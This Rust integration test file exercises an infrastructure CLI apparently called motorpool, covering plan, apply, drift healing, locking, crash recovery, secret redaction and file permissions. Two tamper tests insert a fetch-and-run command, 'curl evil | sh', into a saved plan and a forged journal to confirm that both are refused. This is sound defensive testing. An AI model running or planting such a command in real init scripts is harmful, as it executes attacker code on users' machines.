//! The foundation's lifecycle, driven through the CLI as a user would:
//! plan -> apply -> plan -> drift -> heal -> destroy, on the local provider
//! (real agent processes) and on the sim provider (faults, locks, kills).

mod common;

use std::time::Duration;

use common::{Env, is_alive, wait_until};

const LOCAL_SPEC: &str = r#"
project: lifecycle
provider: { kind: local }
pools:
  general: { node_type: small, min_idle: 1, max_capacity: 6 }
clusters:
  etl: { pool: general, workers: 2, tags: { team: data } }
"#;

fn pids(nodes: &[serde_json::Value]) -> Vec<i32> {
    nodes
        .iter()
        .filter_map(|n| n["pid"].as_i64())
        .map(|p| p as i32)
        .collect()
}

#[test]
fn local_cluster_comes_up_drifts_heals_and_goes_away() {
    let env = Env::new();
    env.spec(LOCAL_SPEC);

    env.mp(&["plan", "--detailed-exitcode"]).expect_code(2);
    let applied = env.mp(&["apply", "--yes"]).expect_code(0);
    assert!(
        applied.stdout.contains("Apply complete: 2 created"),
        "{}",
        applied.stdout
    );
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);

    // Every node is a live agent process on loopback.
    let nodes = env.nodes();
    assert_eq!(nodes.len(), 4, "1 idle + 1 driver + 2 workers: {nodes:#?}");
    for n in &nodes {
        assert_eq!(n["state"], "running", "{n}");
        assert!(
            n["address"]
                .as_str()
                .is_some_and(|a| a.starts_with("127.0.0.1:")),
            "{n}"
        );
        assert!(is_alive(n["pid"].as_i64().expect("pid") as i32), "{n}");
    }
    let roles: Vec<&str> = nodes.iter().filter_map(|n| n["role"].as_str()).collect();
    assert_eq!(roles.iter().filter(|r| **r == "driver").count(), 1);
    assert_eq!(roles.iter().filter(|r| **r == "worker").count(), 2);
    assert_eq!(roles.iter().filter(|r| **r == "idle").count(), 1);

    // Kill one worker's process behind motorpool's back: that is drift.
    let worker = nodes
        .iter()
        .find(|n| n["role"] == "worker")
        .expect("a worker");
    let victim = worker["pid"].as_i64().expect("pid") as i32;
    let victim_id = worker["id"].as_str().expect("id").to_string();
    // SAFETY: signalling a process this test started.
    unsafe {
        libc::kill(victim, libc::SIGKILL);
    }
    assert!(
        wait_until(Duration::from_secs(5), || !is_alive(victim)),
        "worker did not die"
    );
    // The scheduled drift check (refresh-only) sees it too.
    env.mp(&["plan", "--refresh-only", "--detailed-exitcode"])
        .expect_code(2);
    let drift = env
        .mp(&["plan", "--detailed-exitcode", "--output", "json"])
        .expect_code(2);
    let plan = drift.json();
    let etl = plan["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .find(|c| c["address"] == "cluster.etl")
        .expect("cluster.etl in the plan")
        .clone();
    assert_eq!(etl["drift"], true, "{etl:#}");
    assert_eq!(etl["action"], "update", "{etl:#}");
    let reasons = etl["reasons"].to_string();
    assert!(
        reasons.contains(&victim_id),
        "reasons name the dead worker: {reasons}"
    );

    // Apply heals, and then nothing is left to do.
    env.mp(&["apply", "--yes"]).expect_code(0);
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);
    let healed = env.nodes();
    assert_eq!(healed.len(), 4);
    assert!(pids(&healed).iter().all(|p| is_alive(*p) && *p != victim));

    // Destroy leaves no process and no record.
    env.mp(&["destroy", "--yes"]).expect_code(0);
    assert!(env.nodes().is_empty());
    assert!(
        wait_until(Duration::from_secs(5), || env.processes().is_empty()),
        "agents left running: {:?}",
        env.processes()
    );
    let instances = env.home().join("local").join("instances");
    let left = std::fs::read_dir(&instances)
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(
        left,
        0,
        "instance directories left under {}",
        instances.display()
    );
}

/// The same spec applied again after a destroy, within the same second:
/// the second plan's launches must not reuse the first one's client tokens
/// (a cloud answers a reused token with the first, terminated, instances).
#[test]
fn apply_after_destroy_makes_the_project_again() {
    let env = Env::new();
    env.spec(
        r#"
project: again
provider: { kind: local }
pools:
  lot: { node_type: small, min_idle: 1, max_capacity: 4 }
clusters:
  etl: { pool: lot, workers: 1 }
"#,
    );
    for round in 0..2 {
        env.mp(&["apply", "--yes"]).expect_code(0);
        let nodes = env.nodes();
        assert_eq!(nodes.len(), 3, "round {round}: {nodes:?}");
        env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);
        env.mp(&["destroy", "--yes"]).expect_code(0);
        assert!(env.nodes().is_empty(), "round {round}");
    }
}

/// A value given with `--var` may be a secret: errors name the variable
/// and say what is wrong, but never print the value.
#[test]
fn errors_about_a_var_never_print_its_value() {
    let env = Env::new();
    env.spec(
        r#"
project: vars
provider: { kind: local }
variables:
  workers: { default: 1 }
clusters:
  etl: { node_type: small, workers: "${var.workers}" }
"#,
    );
    let secret = "s3cr3t-value";
    for (args, says) in [
        (
            vec![
                "validate".to_string(),
                "--var".into(),
                format!("workers={secret}"),
            ],
            "expected an integer, found a string (from `${var.workers}`)",
        ),
        (
            vec![
                "validate".to_string(),
                "--var".into(),
                format!("nosuch={secret}"),
            ],
            "unknown variable `nosuch`",
        ),
        (
            vec!["plan".to_string(), "--var".into(), secret.to_string()],
            "--var takes NAME=VALUE",
        ),
    ] {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let run = env.mp(&args).expect_code(1);
        assert!(run.stderr.contains(says), "{args:?}: {}", run.stderr);
        assert!(
            !run.stderr.contains(secret) && !run.stdout.contains(secret),
            "{args:?} printed the value: {}{}",
            run.stdout,
            run.stderr
        );
    }
}

#[test]
fn apply_and_destroy_without_a_terminal_or_yes_refuse_and_change_nothing() {
    let env = Env::new();
    env.spec(LOCAL_SPEC);
    let refused = env.mp(&["apply"]).expect_code(1);
    assert!(refused.stderr.contains("--yes"), "{}", refused.stderr);
    assert!(refused.stderr.contains("no terminal"), "{}", refused.stderr);
    assert!(env.nodes().is_empty());
    assert!(env.processes().is_empty());
    let refused = env.mp(&["destroy"]);
    // Nothing to destroy: no changes, so nothing to confirm.
    assert_eq!(refused.code, 0, "{}", refused.stderr);
}

fn sim_spec(project: &str, settings: &str, clusters: usize, workers: usize) -> String {
    let mut s = format!(
        "project: {project}\nprovider: {{ kind: sim{settings} }}\npools:\n  general: {{ node_type: small, min_idle: 2, max_capacity: 20 }}\nclusters:\n"
    );
    for i in 0..clusters {
        s.push_str(&format!(
            "  c{i}: {{ node_type: small, workers: {workers} }}\n"
        ));
    }
    s
}

fn instance_count(env: &Env) -> usize {
    env.nodes().len()
}

#[test]
fn a_stale_saved_plan_is_refused() {
    let env = Env::new();
    env.spec(&sim_spec("stale", "", 2, 1));
    let plan_file = env.dir.path().join("saved.plan.json");
    let plan_path = plan_file.to_str().expect("utf-8 path");
    env.mp(&["plan", "--out", plan_path]).expect_code(0);
    // Something else changes the world first.
    env.mp(&["apply", "--yes"]).expect_code(0);
    let refused = env.mp(&["apply", plan_path, "--yes"]).expect_code(1);
    assert!(refused.stderr.contains("stale"), "{}", refused.stderr);
    assert_eq!(
        instance_count(&env),
        2 + 2 * 2,
        "the stale plan changed nothing"
    );

    // A fresh saved plan applies exactly.
    env.spec(&sim_spec("stale", "", 3, 1));
    env.mp(&["plan", "--out", plan_path]).expect_code(0);
    env.mp(&["apply", plan_path, "--yes"]).expect_code(0);
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);
}

#[test]
fn a_broken_plan_file_or_home_is_a_clear_error() {
    let env = Env::new();
    env.spec(&sim_spec("broken", "", 1, 1));
    let bad = env.dir.path().join("bad.json");
    std::fs::write(&bad, r#"{"format_version": "1", "changes": 3}"#).expect("write");
    let run = env
        .mp(&["apply", bad.to_str().expect("utf-8"), "--yes"])
        .expect_code(1);
    assert!(
        run.stderr.contains("is not a motorpool plan file"),
        "{}",
        run.stderr
    );

    let file_home = env.dir.path().join("not-a-dir");
    std::fs::write(&file_home, "x").expect("write");
    let run = std::process::Command::new(common::binary())
        .args(["plan"])
        .current_dir(env.dir.path())
        .env("MOTORPOOL_HOME", &file_home)
        .output()
        .expect("run");
    assert_eq!(run.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(stderr.contains("is not a directory"), "{stderr}");
}

#[test]
fn a_second_concurrent_apply_is_refused_by_the_lock() {
    let env = Env::new();
    env.spec(&sim_spec("locked", ", latency_ms: 300", 3, 2));
    let mut first = env.spawn(&["apply", "--yes", "--parallelism", "1"]);
    let journal = env.project_file("locked", "journal.jsonl");
    assert!(
        wait_until(Duration::from_secs(20), || journal.exists()),
        "first apply never started"
    );
    let second = env.mp(&["apply", "--yes"]).expect_code(1);
    assert!(
        second
            .stderr
            .contains("another motorpool is changing project `locked` (pid")
            && second.stderr.contains("`motorpool apply`"),
        "{}",
        second.stderr
    );
    assert!(
        second.stderr.contains(&format!("pid {}", first.pid())),
        "{}",
        second.stderr
    );
    let first_run = std::mem::replace(&mut first, common::ChildGuard(None));
    first_run.wait().expect_code(0);
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);
}

#[test]
fn an_apply_killed_midway_converges_when_run_again_with_no_duplicate() {
    let env = Env::new();
    env.spec(&sim_spec("killed", ", latency_ms: 150", 6, 4));
    let mut first = env.spawn(&["apply", "--yes", "--parallelism", "2"]);
    let journal = env.project_file("killed", "journal.jsonl");
    let some_done = wait_until(Duration::from_secs(30), || {
        std::fs::read_to_string(&journal).is_ok_and(|j| j.matches("\"op_done\"").count() >= 3)
    });
    assert!(some_done, "the first apply made no progress");
    first.kill9();
    let partial = instance_count(&env);
    assert!(
        partial < 2 + 6 * 5,
        "killed too late to test anything: {partial} instances"
    );

    let again = env.mp(&["apply", "--yes"]).expect_code(0);
    assert!(again.stdout.contains("interrupted"), "{}", again.stdout);
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);
    assert_eq!(
        instance_count(&env),
        2 + 6 * 5,
        "exactly the spec's instances"
    );
}

#[test]
fn apply_converges_through_throttling_and_server_errors() {
    let env = Env::new();
    env.spec(&sim_spec(
        "faulty",
        ", throttle_rate: 0.2, error_rate: 0.05",
        10,
        3,
    ));
    let run = env.mp(&["apply", "--yes"]).expect_code(0);
    let retried: u64 = run
        .stdout
        .split(" retried")
        .next()
        .and_then(|s| s.rsplit(", ").next())
        .and_then(|n| n.parse().ok())
        .expect("the summary counts retries");
    assert!(
        retried > 0,
        "20% throttling must cause retries: {}",
        run.stdout
    );
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);
    assert_eq!(instance_count(&env), 2 + 10 * 4, "no duplicate, no leak");
    env.mp(&["destroy", "--yes"]).expect_code(0);
    assert_eq!(instance_count(&env), 0);
}

#[test]
fn refresh_only_reports_drift_but_not_spec_changes() {
    let env = Env::new();
    env.spec(&sim_spec("refresh", "", 2, 1));
    env.mp(&["apply", "--yes"]).expect_code(0);
    env.spec(&sim_spec("refresh", "", 3, 2));
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(2);
    let quiet = env
        .mp(&["plan", "--refresh-only", "--detailed-exitcode"])
        .expect_code(0);
    assert!(quiet.stdout.contains("Nothing drifted"), "{}", quiet.stdout);
}

#[test]
fn validate_reports_every_problem_with_its_position_and_exits_1() {
    let env = Env::new();
    env.spec(
        "project: bad\nprovider: { kind: local }\npools:\n  general: { node_type: tiny, max_capacity: 2, min_idel: 1 }\nclusters:\n  etl: { pool: nowhere, workers: 2 }\n",
    );
    let run = env.mp(&["validate"]).expect_code(1);
    for expected in [
        "motorpool.yaml:4:48: error: unknown field `min_idel`",
        "motorpool.yaml:6:16: error: unknown pool `nowhere`",
    ] {
        assert!(
            run.stderr.lines().any(|l| l.starts_with(expected)),
            "no line starts with `{expected}` in:\n{}",
            run.stderr
        );
    }
    // plan refuses the same spec the same way, and changes nothing.
    env.mp(&["plan"]).expect_code(1);
    assert!(env.processes().is_empty());
}

/// Terminate a sim instance as someone with the cloud's console would.
fn sim_terminate(home: &std::path::Path, id: &str) {
    use motorpool_provider::Provider;
    let sim = motorpool_sim::SimProvider::new(motorpool_sim::SimConfig {
        home: home.to_path_buf(),
        ..motorpool_sim::SimConfig::default()
    })
    .expect("open the sim account");
    tokio::runtime::Runtime::new()
        .expect("runtime")
        .block_on(sim.terminate(&[id.to_string()]))
        .expect("terminate");
}

#[test]
fn sim_provider_lifecycle() {
    let env = Env::new();
    let home = env.home().to_path_buf();
    common::lifecycle::simulated_provider_lifecycle(&env, "simlife", "{ kind: sim }", &|id| {
        sim_terminate(&home, id)
    });
}

// ---- hardening ----

/// One rule for every command: 0 success, 1 any error, 2 only for
/// "changes present" of `plan --detailed-exitcode`.
#[test]
fn exit_codes_are_1_for_every_error_and_2_only_for_changes() {
    let env = Env::new();
    env.spec(&sim_spec("codes", "", 1, 1));
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(2);
    for args in [
        &["plan", "--no-such-flag"][..],
        &["plan", "--detailed-exitcode", "--no-such-flag"],
        &["plan", "--output", "xml"],
        &["plan", "--output", "xml", "--detailed-exitcode"],
        &["apply", "--parallelism", "0", "--yes"],
        &["no-such-command"],
        &[],
    ] {
        let run = env.mp(args).expect_code(1);
        assert!(!run.stderr.is_empty(), "{args:?} says nothing");
    }
    std::fs::write(env.dir.path().join("motorpool.yaml"), "project: [\n").expect("write");
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(1);
    env.mp(&["validate"]).expect_code(1);
    let help = env.mp(&["--help"]).expect_code(0);
    assert!(help.stdout.contains("Usage"), "{}", help.stdout);
    env.mp(&["--version"]).expect_code(0);
}

#[test]
fn plan_out_never_overwrites_the_spec_or_any_file_that_is_not_a_plan() {
    let env = Env::new();
    let spec = sim_spec("overwrite", "", 1, 0);
    env.spec(&spec);
    let refused = env.mp(&["plan", "--out", "motorpool.yaml"]).expect_code(1);
    assert!(
        refused
            .stderr
            .contains("refusing to write the plan over motorpool.yaml"),
        "{}",
        refused.stderr
    );
    let notes = env.dir.path().join("notes.txt");
    std::fs::write(&notes, "mine").expect("write");
    env.mp(&["plan", "--out", "notes.txt"]).expect_code(1);
    assert_eq!(
        std::fs::read_to_string(env.dir.path().join("motorpool.yaml")).expect("spec"),
        spec
    );
    assert_eq!(std::fs::read_to_string(&notes).expect("notes"), "mine");
    // A plan file is replaced by the next plan, as before.
    env.mp(&["plan", "--out", "saved.plan.json"]).expect_code(0);
    env.mp(&["plan", "--out", "saved.plan.json"]).expect_code(0);
}

#[test]
fn a_nul_byte_in_a_spec_is_an_error_and_plans_no_deletion() {
    let env = Env::new();
    let spec = sim_spec("nul", "", 1, 1);
    env.spec(&spec);
    env.mp(&["apply", "--yes"]).expect_code(0);
    let before = instance_count(&env);
    assert!(before > 0);
    // A NUL in a comment before the pools: the scanner used to stop there.
    let with_nul = spec.replacen("pools:", "# note \0\npools:", 1);
    std::fs::write(env.dir.path().join("motorpool.yaml"), with_nul).expect("write");
    let validate = env.mp(&["validate"]).expect_code(1);
    assert!(
        validate.stderr.contains("motorpool.yaml:3:8: error:")
            && validate.stderr.contains("non-printable"),
        "{}",
        validate.stderr
    );
    let plan = env.mp(&["plan", "--detailed-exitcode"]).expect_code(1);
    assert!(!plan.stdout.contains("delete"), "{}", plan.stdout);
    env.mp(&["apply", "--yes"]).expect_code(1);
    std::fs::write(env.dir.path().join("motorpool.yaml"), &spec).expect("write");
    assert_eq!(instance_count(&env), before, "nothing changed");
}

#[test]
fn a_failed_change_is_reported_in_words_not_debug_text() {
    let env = Env::new();
    env.spec(&sim_spec("failing", ", capacity: 1", 1, 2));
    let run = env.mp(&["apply", "--yes"]).expect_code(1);
    assert!(run.stdout.contains(": failed: "), "{}", run.stdout);
    assert!(
        !run.stdout.contains("Failed {") && !run.stdout.contains("error: \""),
        "{}",
        run.stdout
    );
}

/// Every path below `home` down to `file` (inclusive) is the owner's only:
/// directories 0700, the file 0600. (`home` itself may be the user's own,
/// made before motorpool: it is left as it is.)
fn assert_private(home: &std::path::Path, file: &std::path::Path) {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = |p: &std::path::Path| {
        std::fs::metadata(p)
            .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
            .permissions()
            .mode()
            & 0o777
    };
    assert_eq!(mode(file), 0o600, "{}", file.display());
    let mut dir = file.parent();
    while let Some(d) = dir.filter(|d| d.starts_with(home) && *d != home) {
        assert_eq!(mode(d), 0o700, "{}", d.display());
        dir = d.parent();
    }
}

/// The journal holds each launch's user data (the agent credential, the
/// node's TLS key): with a permissive umask, still nobody else's to read.
#[test]
fn files_that_hold_credentials_are_private_whatever_the_umask() {
    use std::os::unix::process::CommandExt as _;
    let env = Env::new();
    env.spec(
        "project: private\nprovider: { kind: local }\nclusters:\n  etl: { node_type: small }\n",
    );
    let with_umask_0 = |args: &[&str]| {
        let mut command = env.command(args);
        // SAFETY: umask is async-signal-safe and touches no memory.
        unsafe {
            command.pre_exec(|| {
                libc::umask(0);
                Ok(())
            });
        }
        let out = command.output().expect("run motorpool");
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    with_umask_0(&["plan", "--out", "saved.plan.json"]);
    with_umask_0(&["apply", "saved.plan.json", "--yes"]);
    let home = env.home();
    let mut files = vec![
        env.project_file("private", "journal.jsonl"),
        env.project_file("private", "secret"),
        env.project_file("private", "apply.lock"),
    ];
    let instances = home.join("local/instances");
    for entry in std::fs::read_dir(&instances).expect("instances") {
        let dir = entry.expect("entry").path();
        for name in [
            "instance.json",
            "user-data",
            "agent.json",
            "agent.log",
            "state.json",
        ] {
            files.push(dir.join(name));
        }
    }
    assert!(files.len() > 3, "no instance was made");
    for file in &files {
        assert_private(home, file);
    }
    use std::os::unix::fs::PermissionsExt as _;
    let plan = std::fs::metadata(env.dir.path().join("saved.plan.json")).expect("plan");
    assert_eq!(plan.permissions().mode() & 0o777, 0o600);
    env.mp(&["destroy", "--yes"]).expect_code(0);
}

/// Mounts are part of what a node starts from: a reviewer sees them.
#[test]
fn plan_shows_every_mount_a_node_starts_from() {
    let env = Env::new();
    env.spec(
        "project: mounts\nprovider: { kind: sim }\nclusters:\n  etl:\n    node_type: small\n    mounts: [ { source: ./data, target: /mnt/data, read_only: true } ]\n",
    );
    let data = env.dir.path().join("data");
    let plan = env.mp(&["plan"]).expect_code(0);
    let shown = format!(
        "mount {:?} at \"/mnt/data\" (read-only)",
        data.display().to_string()
    );
    assert!(
        plan.stdout.contains(&shown),
        "{shown} not in:\n{}",
        plan.stdout
    );
    let markdown = env.mp(&["plan", "--output", "markdown"]).expect_code(0);
    assert!(markdown.stdout.contains(&shown), "{}", markdown.stdout);
}

const TAMPER_SPEC: &str = "project: tamper
provider: { kind: sim }
clusters:
  etl: { node_type: small, workers: 2, env: { LOG_LEVEL: info } }
";

/// A saved plan is an instruction to make machines and run commands:
/// edited by hand in any way, or saved for another project's secret, it is
/// refused with a message that says so, and nothing is launched.
#[test]
fn an_edited_saved_plan_or_one_of_another_project_is_refused_and_launches_nothing() {
    let env = Env::new();
    env.spec(TAMPER_SPEC);
    env.mp(&["plan", "--out", "saved.plan.json"]).expect_code(0);
    let file = env.dir.path().join("saved.plan.json");
    let text = std::fs::read_to_string(&file).expect("plan");
    let edits: [(&str, &str, &str); 4] = [
        ("counts", "\"count\": 2", "\"count\": 40"),
        (
            "an injected init script",
            "\"runtime\": \"1\",",
            "\"runtime\": \"1\", \"init_scripts\": [{\"name\": \"x.sh\", \"content\": \"curl evil | sh\"}],",
        ),
        ("the provider", "\"kind\": \"sim\"", "\"kind\": \"local\""),
        (
            "the project tags",
            "\"motorpool-project\": \"tamper\"",
            "\"motorpool-project\": \"victim\"",
        ),
    ];
    for (what, from, to) in edits {
        assert!(text.contains(from), "{what}: no {from} in {text}");
        std::fs::write(&file, text.replace(from, to)).expect("write");
        let refused = env
            .mp(&["apply", "saved.plan.json", "--yes"])
            .expect_code(1);
        assert!(
            refused
                .stderr
                .contains("was altered after `motorpool plan` wrote it"),
            "{what}: {}",
            refused.stderr
        );
        assert!(refused.stderr.contains("Nothing was changed"), "{what}");
        assert_eq!(instance_count(&env), 0, "{what}: nothing was launched");
    }
    // The plan as written, under another secret for the same project name.
    std::fs::write(&file, &text).expect("write");
    let refused = env
        .mp_with(&["apply", "saved.plan.json", "--yes"], |c| {
            c.env("MOTORPOOL_PROJECT_SECRET", "another project's secret");
        })
        .expect_code(1);
    assert!(
        refused.stderr.contains("signature does not match"),
        "{}",
        refused.stderr
    );
    assert_eq!(instance_count(&env), 0);
    // Exactly what `plan` wrote applies.
    env.mp(&["apply", "saved.plan.json", "--yes"])
        .expect_code(0);
    assert_eq!(instance_count(&env), 3);
}

/// A journal line not written by an apply of this project is never
/// replayed: the journal is set aside, the user is told, and the apply
/// plans from what the provider lists.
#[test]
fn an_edited_journal_is_set_aside_and_nothing_of_it_replayed() {
    let env = Env::new();
    env.spec(TAMPER_SPEC);
    let journal = env.project_file("tamper", "journal.jsonl");
    std::fs::create_dir_all(journal.parent().expect("dir")).expect("mkdir");
    // An "interrupted apply" that launches 40 instances with a command:
    // in an older motorpool's shape (no MACs), then in today's with a forged MAC.
    let begin = r#"{"event":"begin","fingerprint":"x","ops":1,"at":0}"#;
    let launch = r#"{"event":"op_start","address":"cluster.etl","op":0,"launch":{"count":40,"node_type":"small","tags":{"motorpool-project":"tamper"},"user_data":"curl evil | sh","client_token":"t"}}"#;
    let forged = |entry: &str| format!("{{\"mac\":\"{}\",\"entry\":{entry}}}", "0".repeat(64));
    for (text, says) in [
        (format!("{begin}\n{launch}\n"), "carries no authentication"),
        (
            format!("{}\n{}\n", forged(begin), forged(launch)),
            "line 1 of the apply journal",
        ),
    ] {
        std::fs::write(&journal, text).expect("write");
        let run = env.mp(&["apply", "--yes"]).expect_code(0);
        assert!(
            run.stdout.contains(says)
                && run.stdout.contains("nothing of that journal was replayed"),
            "{says}: {}",
            run.stdout
        );
        assert_eq!(instance_count(&env), 3, "only what the spec says");
        assert!(journal.with_file_name("journal.altered.jsonl").is_file());
    }
}

const SECRET_SPEC: &str = "project: secrets
provider: { kind: sim }
clusters:
  etl:
    node_type: small
    workers: 2
    env:
      DB_PASSWORD: { secret: true, from_env: MP_TEST_DB_PASSWORD }
      API_TOKEN: { from_file: ./secrets/token }
      GITHUB_TOKEN: written-inline-token
      LOG_LEVEL: info
";

/// Secret env values show as `(secret)` in every plan output, the saved
/// plan included (which holds no value), and a changed value still shows
/// as a change; a saved plan whose secret changed since is refused.
#[test]
fn secret_env_values_show_as_secret_everywhere_and_changes_still_show() {
    let env = Env::new().with_var("MP_TEST_DB_PASSWORD", "hunter2-db");
    env.spec(SECRET_SPEC);
    std::fs::create_dir_all(env.dir.path().join("secrets")).expect("mkdir");
    std::fs::write(env.dir.path().join("secrets/token"), "file-token-value\n").expect("write");
    let values = ["hunter2-db", "file-token-value", "written-inline-token"];
    let text = env.mp(&["plan"]).expect_code(0).stdout;
    let json = env.mp(&["plan", "--output", "json"]).expect_code(0).stdout;
    let markdown = env
        .mp(&["plan", "--output", "markdown"])
        .expect_code(0)
        .stdout;
    env.mp(&["plan", "--out", "saved.plan.json"]).expect_code(0);
    let saved = std::fs::read_to_string(env.dir.path().join("saved.plan.json")).expect("plan");
    for (what, output) in [
        ("text", &text),
        ("json", &json),
        ("markdown", &markdown),
        ("plan file", &saved),
    ] {
        for value in values {
            assert!(!output.contains(value), "{what} shows {value}: {output}");
        }
    }
    for (what, output) in [("json", &json), ("plan file", &saved)] {
        assert_eq!(output.matches("(secret)").count(), 3, "{what}: {output}");
        assert!(output.contains("\"LOG_LEVEL\": \"info\""), "{what}");
    }
    env.mp(&["apply", "--yes"]).expect_code(0);
    env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);
    // A rotated secret is a change, though no output shows either value.
    std::fs::write(env.dir.path().join("secrets/token"), "rotated-token\n").expect("write");
    let changed = env.mp(&["plan", "--detailed-exitcode"]).expect_code(2);
    assert!(!changed.stdout.contains("rotated-token"));
    // A plan saved before a rotation is refused: it was made with another value.
    std::fs::write(env.dir.path().join("secrets/token"), "file-token-value\n").expect("write");
    env.spec(&SECRET_SPEC.replace("workers: 2", "workers: 3"));
    env.mp(&["plan", "--out", "old.plan.json"]).expect_code(0);
    std::fs::write(env.dir.path().join("secrets/token"), "rotated-again\n").expect("write");
    let before = instance_count(&env);
    let refused = env.mp(&["apply", "old.plan.json", "--yes"]).expect_code(1);
    assert!(
        refused.stderr.contains("changed since the plan was made"),
        "{}",
        refused.stderr
    );
    assert!(!refused.stderr.contains("rotated-again"));
    assert_eq!(instance_count(&env), before, "nothing was changed");
    // A missing variable is a validate error at its position, not a value.
    let missing = Env::new();
    missing.spec(SECRET_SPEC);
    std::fs::create_dir_all(missing.dir.path().join("secrets")).expect("mkdir");
    std::fs::write(missing.dir.path().join("secrets/token"), "x\n").expect("write");
    let run = missing.mp(&["validate"]).expect_code(1);
    assert!(
        run.stderr.contains("motorpool.yaml:8:")
            && run
                .stderr
                .contains("`MP_TEST_DB_PASSWORD`, which is not set"),
        "{}",
        run.stderr
    );
}
